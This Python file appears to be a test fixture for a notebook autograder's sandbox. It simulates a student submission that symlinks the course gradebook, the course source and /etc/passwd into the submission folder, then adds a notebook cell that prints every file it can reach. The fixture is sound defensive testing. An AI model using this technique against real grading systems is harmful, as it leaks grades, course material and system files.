"""
attack: links, and folders of links to the gradebook, the source and the password file beside the notebook
after: those files, read by code in the sandbox and copied with the feedback
"""

import json
from pathlib import Path


def submit(folder: Path, notebook: dict) -> None:
    course = folder.parents[2]
    (folder / "gradebook.txt").symlink_to(course / "gradebook.db")
    (folder / "source").symlink_to(course / "source")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "itself").symlink_to(folder)
    (folder / "relative.txt").symlink_to("../../../source/mod-1-lab-1/mod-1-lab-1.ipynb")
    (folder / "nothing.txt").symlink_to("/nowhere")
    source = "import os\nprint(os.listdir('.'))\nfor name in os.listdir('.'):\n    "
    source += "print(open(name, errors='replace').read())"
    cell = {
        "cell_type": "code",
        "id": "reads",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }
    notebook["cells"].append(cell)
    (folder / "mod-1-lab-1.ipynb").write_text(json.dumps(notebook))
